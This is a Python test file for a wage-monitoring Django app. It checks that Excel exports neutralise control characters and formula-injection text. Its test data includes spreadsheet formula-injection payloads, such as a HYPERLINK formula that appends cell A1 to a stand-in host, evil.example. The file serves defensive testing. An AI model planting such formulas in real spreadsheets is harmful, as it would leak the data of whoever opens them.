"""Every workbook the platform writes survives whatever text is stored (legacy rows written before
text was checked) and never holds a live formula (OWASP CSV injection)."""

from __future__ import annotations

import ast
from io import BytesIO
from pathlib import Path
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from wagewatch.cases.models import Case
from wagewatch.core.export import cell_value, new_workbook, workbook_bytes
from wagewatch.payroll.models import ImportJob
from wagewatch.payroll.services.imports import import_job_process
from wagewatch.payroll.tests.test_imports import attendance_rows, csv_bytes, id_number, roster  # noqa: F401
from wagewatch.registry.models import Enterprise
from wagewatch.testing.cases import register

CONTROLS = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1f", "\x7f", "\x85", "\ufffe", "\ud800"]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "＝1+1"]


def skip_nul_on_postgresql(char):
    from django.db import connection

    if char == "\x00" and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL cannot hold a NUL: no legacy row can have one there")


def workbook_rows(content: bytes, sheet=None):
    book = load_workbook(BytesIO(content))
    ws = book[sheet] if sheet else book.active
    return ws, list(ws.iter_rows(values_only=True))


def assert_inert(ws):
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


@pytest.mark.parametrize("char", CONTROLS)
def test_cell_value_makes_every_control_character_writable(char):
    book = new_workbook()
    book.active.append([f"益民{char}食品"])
    book.active.cell(row=2, column=1, value=f"东城{char}")
    ws, rows = workbook_rows(workbook_bytes(book))
    assert rows[0][0] in ("益民\ufffd食品",) and rows[1][0] == "东城\ufffd"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_text(text):
    assert cell_value(text) == "'" + text
    book = new_workbook()
    book.active.append([text])
    book.active["B1"] = text
    book.active.cell(row=2, column=1).value = text  # set straight on a cell: caught on saving
    ws, rows = workbook_rows(workbook_bytes(book))
    assert_inert(ws)
    stored = "'" + text.replace("\r", "\n")  # XML reads a CR back as LF
    assert rows[0] == (stored, stored) and rows[1][0] == stored


def test_plain_values_are_unchanged():
    assert [cell_value(v) for v in ("益民食品", "-", "", 12, None, True)] == ["益民食品", "-", "", 12, "", "是"]
    assert cell_value("a\nb") == "a\nb"


def test_no_module_writes_a_workbook_but_core_export():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "export.py" and path.parent.name == "core":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
                names = {a.name for a in node.names}
                if names & {"Workbook", "Worksheet"} or node.module.startswith("openpyxl.writer"):
                    offenders.append(f"{path.relative_to(root)}:{node.lineno}")
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "save":
                if isinstance(node.func.value, ast.Name) and node.func.value.id in {"book", "workbook", "wb"}:
                    offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert not offenders, f"workbooks must come from wagewatch.core.export (new_workbook, workbook_bytes): {offenders}"


# ---------------------------------------------------------------- the exports, with legacy rows


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x1f"])
def test_case_ledger_exports_names_with_control_characters(client, world, char):
    skip_nul_on_postgresql(char)
    case = register(world).case
    Case.objects.filter(pk=case.pk).update(employer_name=f"益民{char}食品", project_name='=HYPERLINK("http://evil.example","x")')
    Enterprise.objects.filter(pk=world.enterprises["factory_a"].pk).update(name=f"东花{char}服装厂")
    for user in ("office_staff", "office_leader", "admin"):
        client.force_login(world.users[user])
        response = client.get(reverse("cases:export"))
        assert response.status_code == 200, user
        ws, rows = workbook_rows(response.content)
        assert_inert(ws)
        row = next(r for r in rows if r[0] == case.number)
        # The employer column names the registered enterprise, the typed name in brackets.
        assert any("益民\ufffd食品" in str(cell) for cell in row) and "'=HYPERLINK(\"http://evil.example\",\"x\")" in row


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x1f"])
def test_enterprise_export_with_control_characters_and_formulas(client, world, char):
    skip_nul_on_postgresql(char)
    Enterprise.objects.filter(pk=world.enterprises["factory_a"].pk).update(name=f"东花{char}服装厂", address="=1+1")
    client.force_login(world.users["office_staff"])
    response = client.get(reverse("registry:enterprise_list"), {"export": "xlsx"})
    assert response.status_code == 200
    ws, rows = workbook_rows(response.content)
    assert_inert(ws)
    names = [r[0] for r in rows]
    assert "东花\ufffd服装厂" in names and not any(isinstance(v, str) and v.startswith("=") for r in rows for v in r)


def test_payroll_rejected_rows_file_is_writable_and_inert(client, world, roster, django_capture_on_commit_callbacks):  # noqa: F811
    client.force_login(world.users["labour_manager"])
    bad = attendance_rows() + [[id_number(99), '=HYPERLINK("http://evil.example")', "2026-11-05 08:00:00", "进", "@GATE\x01", "\x1f1号门"]]
    upload = SimpleUploadedFile("考勤11月.csv", csv_bytes(bad), content_type="text/csv")
    with mock.patch("wagewatch.payroll.tasks_imports.import_process.delay"), django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("payroll:imports", kwargs={"project_id": world.projects["housing_b"].pk}), {"kind": "attendance", "file": upload})
    job = ImportJob.objects.get(kind="attendance")
    import_job_process(job.pk)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.REJECTED
    url = reverse("payroll:import_rejected", args=[world.projects["housing_b"].pk, job.pk])
    response = client.get(url)  # the uploader: the whole file with a reason column
    assert response.status_code == 200
    ws, rows = workbook_rows(response.content)
    assert_inert(ws)
    last = rows[-1]
    assert '\'=HYPERLINK("http://evil.example")' in last and "'@GATE\ufffd" in last
    client.force_login(world.users["office_staff"])  # anyone else: the rejected cells
    response = client.get(url)
    assert response.status_code == 200
    assert_inert(workbook_rows(response.content)[0])


@pytest.mark.parametrize(
    "url",
    [
        reverse("registry:import_template", args=["enterprises"]),
        reverse("registry:import_template", args=["projects"]),
        reverse("intake:import") + "?template=1",
        reverse("payroll:import_template", args=["attendance"]),
    ],
)
def test_templates_are_inert(client, world, url):
    client.force_login(world.users["admin"])
    response = client.get(url)
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    for ws in book.worksheets:
        assert_inert(ws)
